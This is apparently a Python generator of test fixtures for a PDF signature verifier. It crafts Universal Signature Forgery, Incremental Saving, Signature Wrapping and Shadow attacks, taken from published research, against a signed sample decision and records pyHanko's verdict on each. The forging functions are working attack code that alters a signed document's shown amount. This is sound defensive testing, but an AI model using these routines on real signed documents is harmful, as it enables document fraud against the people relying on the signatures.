#!/usr/bin/env python3
"""Signature attack fixtures of tests/signature_attacks.rs, and what pyHanko says of each.

A small hand-written PDF (it must hold shadow objects, which no authoring tool writes on
purpose) is signed twice with pyHanko using the test PKI of testdata/signatures/pki/: a personal
signature (Sig1) and an organisation signature (Sig2). That control file, `control.pdf`, is what
kyso calls `fully_signed`. Every other fixture is the control (or the document before a
signature) attacked at the byte level, following the attack classes of Mladenov et al., "1
Trillion Dollar Refund" (NDSS 2019: USF, ISA, SWA) and Mainka et al., "Shadow Attacks" (NDSS
2021: hide, replace, hide-and-replace). pyHanko 0.25.3 validates each one (trusting the test
root at VALIDATION_TIME) and its findings go into testdata/attacks/expected.json with the
outcome kyso must report.

Run from the crate root:  python3 testdata/generate/attacks.py
Needs testdata/signatures/pki/ (made by signatures.py); requirements-signatures.txt.
"""

import datetime as dt
import json
import re
from io import BytesIO
from pathlib import Path

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.validation import validate_pdf_signature
from pyhanko_certvalidator import ValidationContext
from pyhanko_certvalidator.registry import SimpleCertificateStore

ROOT = Path(__file__).resolve().parents[2]
PKI = ROOT / "testdata" / "signatures" / "pki"
OUT = ROOT / "testdata" / "attacks"
VALIDATION_TIME = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)

# What the page says when signed, and what the attacker wants it to say.
SIGNED_AMOUNT = b"So tien duoc duyet: 100.000.000 dong"
FORGED_AMOUNT = b"So tien duoc duyet: 900.000.000 dong"


def stream(body, extra=b""):
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(body), extra, body)


def base_document():
    """A one-page decision with two empty signature fields and three kinds of shadow objects.

    Live objects: catalog 1, pages 2, page 3 (content 4, font 5, overlay form 6), AcroForm 7,
    fields 8/9. The overlay 6 paints a white box over a line that reads the forged amount.
    Shadow objects (written in the file, unused when signing):
      - a second body of object 6 (an empty form): the xref points to the live one;
      - a second body of object 4 (the page content with the forged amount);
      - a whole second document: catalog 10, pages 11, page 12, content 13 (forged amount),
        sharing the signed AcroForm so its signatures still show.
    """
    content = (b"BT /F1 16 Tf 72 760 Td (QUYET DINH so 123/QD-UBND) Tj ET\n"
               b"BT /F1 14 Tf 72 720 Td (" + SIGNED_AMOUNT + b") Tj ET\n"
               b"BT /F1 14 Tf 72 690 Td (Ghi chu: " + FORGED_AMOUNT + b") Tj ET\n"
               b"q /Ov Do Q")
    forged = (b"BT /F1 16 Tf 72 760 Td (QUYET DINH so 123/QD-UBND) Tj ET\n"
              b"BT /F1 14 Tf 72 720 Td (" + FORGED_AMOUNT + b") Tj ET")
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
    page = (b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /Ov 6 0 R >> >> "
            b"/Annots [8 0 R 9 0 R] >>")
    field = (b"<< /FT /Sig /T (%s) /Type /Annot /Subtype /Widget /Rect [%d 80 %d 130] "
             b"/F 132 /P 3 0 R >>")
    live = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page % (2, 4),
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        6: stream(b"1 g 60 680 480 30 re f", form),
        7: b"<< /Fields [8 0 R 9 0 R] /SigFlags 3 >>",
        8: field % (b"Sig1", 72, 272),
        9: field % (b"Sig2", 320, 520),
        10: b"<< /Type /Catalog /Pages 11 0 R /AcroForm 7 0 R >>",
        11: b"<< /Type /Pages /Kids [12 0 R] /Count 1 >>",
        12: page % (11, 13),
        13: stream(forged),
    }
    shadows = [(6, stream(b"", form)), (4, stream(forged))]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets, shadow_offsets = {}, {}
    for num, body in shadows:
        shadow_offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    for num, body in live.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    xref = len(out)
    size = max(live) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        out += b"%010d 00000 n \n" % offsets[num]
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out), shadow_offsets


def load_pki():
    def cert(stem):
        return x509.load_pem_x509_certificate((PKI / f"{stem}.crt.pem").read_bytes())

    def key(stem):
        return serialization.load_pem_private_key((PKI / f"{stem}.key.pem").read_bytes(), None)

    return {s: (cert(s), key(s)) for s in ("root", "personal", "organisation")}


def to_asn1(c):
    return asn1_x509.Certificate.load(c.public_bytes(serialization.Encoding.DER))


def sign(data, pki, stem, field):
    cert, key = pki[stem]
    key_der = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption())
    signer = signers.SimpleSigner(
        signing_cert=to_asn1(cert), signing_key=asn1_keys.PrivateKeyInfo.load(key_der),
        cert_registry=SimpleCertificateStore.from_certs([to_asn1(pki["root"][0])]))
    w = IncrementalPdfFileWriter(BytesIO(data))
    meta = signers.PdfSignatureMetadata(field_name=field, md_algorithm="sha256")
    return signers.sign_pdf(w, meta, signer=signer).getvalue()


def last_startxref(data):
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def last_trailer(data):
    return re.findall(rb"trailer\s*(<<.*?>>)\s*startxref", data, re.S)[-1]


def sig_dicts(data):
    """(start, end) of each signature value's /Contents <...> and /ByteRange [...] tokens."""
    found = []
    for m in re.finditer(rb"/ByteRange\s*\[[^\]]*\]", data):
        contents = list(re.finditer(rb"/Contents\s*<[0-9A-Fa-f]*>", data[:m.start()]))[-1]
        found.append({"byterange": (m.start(), m.end()),
                      "contents": (contents.start(), contents.end()),
                      "values": [int(v) for v in re.findall(rb"-?\d+", m.group(0))]})
    return found


def overwrite(data, span, text):
    """Replaces the bytes of `span` with `text` padded with spaces: offsets do not move."""
    start, end = span
    assert len(text) <= end - start, (text, span)
    return data[:start] + text + b" " * (end - start - len(text)) + data[end:]


def xref_update(data, entries, root=None):
    """An incremental update made of a cross-reference section and a trailer only: `entries`
    maps object numbers to offsets that already exist in the file (shadow bodies)."""
    trailer = last_trailer(data)
    trailer = re.sub(rb"\s*/Prev\s+\d+", b"", trailer)
    trailer = trailer[:-2].rstrip() + b" /Prev %d >>" % last_startxref(data)
    if root is not None:
        trailer = re.sub(rb"/Root\s+\d+\s+\d+\s+R", b"/Root %d 0 R" % root, trailer)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num, off in sorted(entries.items()):
        out += b"%d 1\n%010d 00000 n \n" % (num, off)
    out += b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def replace_content_update(data):
    """ISA with a well-formed update (pyHanko's writer): the page content is replaced."""
    w = IncrementalPdfFileWriter(BytesIO(data))
    page = w.root["/Pages"]["/Kids"][0].get_object()
    ref = w.add_object(generic.StreamObject(
        stream_data=b"BT /F1 14 Tf 72 720 Td (" + FORGED_AMOUNT + b") Tj ET"))
    page[generic.NameObject("/Contents")] = ref
    w.update_container(page)
    out = BytesIO()
    w.write(out)
    return out.getvalue()


def appended_objects(data, with_trailer):
    """ISA without a cross-reference section: object 4 is redefined after the signed bytes.
    Lenient readers that rebuild the xref by scanning use the last definition."""
    body = b"BT /F1 14 Tf 72 720 Td (" + FORGED_AMOUNT + b") Tj ET"
    out = data + b"4 0 obj\n" + stream(body) + b"\nendobj\n"
    if with_trailer:
        # A trailer and startxref, but pointing at the signed revision's xref: the crafted
        # update claims nothing changed while a scanning reader sees the new object 4.
        out += b"trailer\n" + last_trailer(data) + b"\nstartxref\n%d\n" % last_startxref(data)
    return out + b"%%EOF\n"


def signature_wrapping(data):
    """SWA on the last signature: its second signed range is moved to the end of the file and
    the freed place holds a new /ByteRange and the attacker's objects. The digest over the
    named bytes still matches, because the signed bytes are all there, elsewhere."""
    sig = sig_dicts(data)[-1]
    a, b, c, d = sig["values"]
    part1, gap, part2 = data[:a + b], data[a + b:c], data[c:c + d]
    # pyHanko writes /ByteRange after /Contents, so the old ByteRange is in the relocated part.
    assert sig["byterange"][0] >= c
    tail_of_dict = part2[part2.index(b">>"):]  # close the signature dictionary
    xref_at = last_startxref(data)  # the relocated part's startxref still names this offset
    forged = b"BT /F1 14 Tf 72 720 Td (" + FORGED_AMOUNT + b") Tj ET"
    new = bytearray(part1 + gap)
    new_c_placeholder = b"/ByteRange [0 %d %%010d %d]" % (b, d)
    br_at = len(new) + 1
    new += b"\n" + new_c_placeholder % 0 + b"\n>>\nendobj\n"
    obj4 = len(new)
    new += b"4 0 obj\n" + stream(forged) + b"\nendobj\n"
    # The attacker's xref must start exactly where the signed trailer says the xref is.
    assert len(new) < xref_at, "relocation needs room before the old xref offset"
    new += b"%" + b" " * (xref_at - len(new) - 2) + b"\n"
    assert len(new) == xref_at
    trailer = re.sub(rb"\s*/Prev\s+\d+", b"", last_trailer(data))
    new += b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \ntrailer\n%s\n" % (obj4, trailer)
    # Wrap the relocated signed bytes in a stream nobody references.
    new += b"99 0 obj\n<< /Length %d >>\nstream\n" % d
    c_new = len(new)
    new += part2 + b"\nendstream\nendobj\n"
    new[br_at:br_at + len(new_c_placeholder % 0)] = new_c_placeholder % c_new
    del tail_of_dict
    return bytes(new)


def validate(data, pki):
    root = to_asn1(pki["root"][0])
    try:
        r = PdfFileReader(BytesIO(data), strict=False)
        sigs = list(r.embedded_signatures)
    except Exception as e:  # noqa: BLE001 - pyHanko refusing the file is a finding too
        return [{"pyhanko_error": f"{type(e).__name__}: {e}"[:300]}]
    result = []
    for emb in sigs:
        vc = ValidationContext(trust_roots=[root], moment=VALIDATION_TIME, allow_fetching=False,
                               revocation_mode="soft-fail", best_signature_time=VALIDATION_TIME)
        try:
            st = validate_pdf_signature(emb, vc, skip_diff=False)
            level = st.modification_level.name.lower() if st.modification_level is not None else None
            result.append({"field": emb.field_name, "intact": st.intact, "valid": st.valid,
                           "coverage": st.coverage.name.lower() if st.coverage else None,
                           "modification_level": level, "trusted": st.trusted,
                           "bottom_line": st.bottom_line})
        except Exception as e:  # noqa: BLE001
            result.append({"field": emb.field_name,
                           "pyhanko_error": f"{type(e).__name__}: {e}"[:300]})
    if not sigs:
        result.append({"pyhanko_error": "no signature found"})
    return result


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    pki = load_pki()
    base, shadow = base_document()
    once = sign(base, pki, "personal", "Sig1")
    control = sign(once, pki, "organisation", "Sig2")
    sig1, sig2 = sig_dicts(control)
    fx = {}
    # check: what kyso must say. "control" is the one fully signed file.
    fx["control.pdf"] = (control, "control", "two valid signatures, nothing changed")

    def usf(name, span, text, what):
        fx[name] = (overwrite(control, span, text), "usf", what)

    usf("usf_contents_missing.pdf", sig2["contents"], b"", "Sig2 has no /Contents")
    usf("usf_contents_null.pdf", sig2["contents"], b"/Contents null", "Sig2 /Contents null")
    usf("usf_contents_empty.pdf", sig2["contents"], b"/Contents <>", "Sig2 /Contents <>")
    usf("usf_byterange_missing.pdf", sig2["byterange"], b"", "Sig2 has no /ByteRange")
    usf("usf_byterange_null.pdf", sig2["byterange"], b"/ByteRange null", "Sig2 /ByteRange null")
    usf("usf_byterange_zero.pdf", sig2["byterange"], b"/ByteRange [0 0 0 0]",
        "Sig2 /ByteRange [0 0 0 0]: signs nothing")
    a, b, c, d = sig1["values"]
    usf("usf_byterange_elsewhere.pdf", sig2["byterange"], b"/ByteRange [%d %d %d %d]" % (a, b, c, d),
        "Sig2's /ByteRange names Sig1's bytes (Sig1's valid CMS), not its own /Contents")
    fx["isa_with_xref.pdf"] = (replace_content_update(control), "isa",
                               "update with xref and trailer replaces the page content")
    fx["isa_without_xref.pdf"] = (appended_objects(control, False), "isa",
                                  "object 4 redefined after signing, no xref, no trailer")
    fx["isa_crafted_trailer.pdf"] = (appended_objects(control, True), "isa",
                                     "object 4 redefined; trailer and startxref name the signed xref")
    fx["swa_relocated_range.pdf"] = (signature_wrapping(control), "swa",
                                     "Sig2's second signed range moved to the end; new ByteRange")
    fx["shadow_hide.pdf"] = (xref_update(control, {6: shadow[6]}), "shadow",
                             "xref-only update points object 6 (white overlay) at an empty shadow body")
    fx["shadow_replace.pdf"] = (xref_update(control, {4: shadow[4]}), "shadow",
                                "xref-only update points the page content at a shadow body")
    fx["shadow_hide_and_replace.pdf"] = (xref_update(control, {}, root=10), "shadow",
                                         "xref-only update: trailer /Root becomes a shadow catalog")
    expected = {}
    for name, (data, cls, what) in fx.items():
        (OUT / name).write_bytes(data)
        expected[name] = {"class": cls, "attack": what,
                          "kyso_must": "fully_signed" if cls == "control" else "not_fully_signed",
                          "pyhanko": validate(data, pki)}
        print(name, json.dumps(expected[name]["pyhanko"]))
    meta = {"validation_time": VALIDATION_TIME.isoformat().replace("+00:00", "Z"),
            "trust": "testdata/signatures/pki/trusted", "pyhanko_version": "0.25.3",
            "files": expected}
    (OUT / "expected.json").write_text(json.dumps(meta, indent=1) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
